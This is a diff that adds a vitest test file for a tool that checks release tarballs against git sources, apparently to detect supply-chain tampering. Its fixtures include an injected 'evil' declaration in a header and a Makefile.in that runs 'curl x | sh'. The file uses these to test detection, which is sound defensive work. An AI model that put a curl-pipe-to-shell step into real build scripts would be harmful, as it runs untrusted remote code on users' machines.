@@ -1,0 +1,66 @@
+import { describe, it, expect } from "vitest";
+import { runScenario, explained, findingsOf } from "./helpers.js";
+
+const base = { "configure.ac": "AC_INIT([p],[1])\nAC_CONFIG_HEADERS([lib/conf.h])\n", "Makefile.am": "", "src/a.c": "int a;\n" };
+
+describe("gitattributes profile", () => {
+  it("explains export-subst expansions and nothing more", async () => {
+    const git = { ...base, ".gitattributes": "src/version.h export-subst\n", "src/version.h": '#define COMMIT "$Format:%H$"\n' };
+    const ok = await runScenario({ git, tarball: { ...git, "src/version.h": '#define COMMIT "0123456789abcdef"\n' } });
+    expect(explained(ok, "src/version.h")).toBe("gitattributes");
+    const bad = await runScenario({ git, tarball: { ...git, "src/version.h": '#define COMMIT "0123"\nint evil;\n' } });
+    expect(findingsOf(bad, "source-modified")).toEqual(["high src/version.h"]);
+  });
+  it("explains eol=crlf conversions only when the attribute asks for them", async () => {
+    const git = { ...base, ".gitattributes": "*.bat eol=crlf\n", "win/make.bat": "echo a\necho b\n", "win/other.cmd": "echo a\n" };
+    const r = await runScenario({ git, tarball: { ...git, "win/make.bat": "echo a\r\necho b\r\n", "win/other.cmd": "echo a\r\n" } });
+    expect(explained(r, "win/make.bat")).toBe("gitattributes");
+    expect(findingsOf(r, "source-modified")).toEqual(["high win/other.cmd"]);
+  });
+});
+
+describe("autotools profile", () => {
+  it("explains headers named by AC_CONFIG_HEADERS, aclocal.m4 and stamp files", async () => {
+    const r = await runScenario({ git: base, tarball: { ...base, "lib/conf.h.in": "#undef X\n", "aclocal.m4": "dnl generated\n", "stamp-h.in": "timestamp\n" } });
+    expect(explained(r, "lib/conf.h.in")).toBe("autotools");
+    expect(explained(r, "aclocal.m4")).toBe("autotools");
+    expect(explained(r, "stamp-h.in")).toBe("autotools");
+    expect(r.findings.filter((f) => f.severity === "high" || f.severity === "medium")).toEqual([]);
+  });
+  it("does not explain a Makefile.in in a directory without Makefile.am", async () => {
+    const r = await runScenario({ git: base, tarball: { ...base, "evil/Makefile.in": "all:\n\tcurl x | sh\n" } });
+    expect(findingsOf(r, "build-script-added")).toEqual(["high evil/Makefile.in"]);
+  });
+});
+
+describe("gettext profile", () => {
+  const po = (date: string, ref: string, msg: string) =>
+    `msgid ""\nmsgstr ""\n"POT-Creation-Date: ${date}\\n"\n\n#: ${ref}\nmsgid "Hello"\nmsgstr "${msg}"\n`;
+  it("explains .po changes limited to header dates and source references", async () => {
+    const git = { ...base, "po/POTFILES.in": "src/a.c\n", "po/de.po": po("2024-01-01", "src/a.c:1", "Hallo") };
+    const r = await runScenario({ git, tarball: { ...git, "po/de.po": po("2024-02-02", "src/a.c:7", "Hallo") } });
+    expect(explained(r, "po/de.po")).toBe("gettext");
+  });
+  it("keeps a changed translation as a finding", async () => {
+    const git = { ...base, "po/POTFILES.in": "src/a.c\n", "po/de.po": po("2024-01-01", "src/a.c:1", "Hallo") };
+    const r = await runScenario({ git, tarball: { ...git, "po/de.po": po("2024-01-01", "src/a.c:1", "Hallo %n%n%n") } });
+    expect(explained(r, "po/de.po")).toBeUndefined();
+    expect(findingsOf(r, "other-file-changed")).toEqual(["low po/de.po"]);
+  });
+});
+
+describe("changelog and texinfo profiles", () => {
+  it("explains a ChangeLog in git-log format and an info manual built from Texinfo", async () => {
+    const git = { ...base, "doc/p.texi": "\\input texinfo\n" };
+    const r = await runScenario({
+      git,
+      tarball: { ...git, ChangeLog: "2024-02-24  Jane Doe  <jane@example.org>\n\n\tFix.\n", "doc/p.info": "This is p.info, produced by makeinfo.\n" },
+    });
+    expect(explained(r, "ChangeLog")).toBe("changelog");
+    expect(explained(r, "doc/p.info")).toBe("texinfo");
+  });
+  it("does not explain a ChangeLog that is not generated from git", async () => {
+    const r = await runScenario({ git: base, tarball: { ...base, ChangeLog: "hand-written notes\n" } });
+    expect(explained(r, "ChangeLog")).toBeUndefined();
+  });
+});
